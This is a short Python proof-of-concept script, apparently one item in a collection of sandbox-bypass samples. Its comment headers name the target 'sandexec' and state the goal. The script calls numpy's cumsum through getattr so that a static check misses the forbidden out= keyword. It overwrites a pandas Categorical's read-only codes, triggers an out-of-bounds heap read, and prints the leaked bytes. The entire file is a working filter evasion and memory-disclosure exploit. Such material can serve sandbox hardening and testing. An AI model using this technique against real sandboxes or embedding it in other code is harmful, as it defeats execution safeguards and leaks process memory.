# source: sandexec README, "The static check", "numpy's running totals with an output ... numpy 1.24 writes them into arrays flagged read-only"; numpy ndarray.cumsum(axis, dtype, out); pandas Categorical.codes/take_nd unchecked codes
# family: getattr literal name; the refused keyword out= given to the fetched method
# goal: getattr(arr, "cumsum", None)(0, None, out=codes): the out= keyword is not read on the fetched method; read a Categorical's codes, then pandas reads its categories out of bounds (heap read)

import numpy as np
import pandas as pd
c = pd.Categorical([1, 2, 1, 2], categories=[1, 2])
k = c.codes
src = np.array([0, 40, 20, 60], dtype=np.int8)
getattr(src, "cumsum", None)(0, None, out=k)
print("codes now", k)
vals = np.asarray(c)
print("read past the categories:", vals)
print("as bytes:", vals[1:].tobytes())
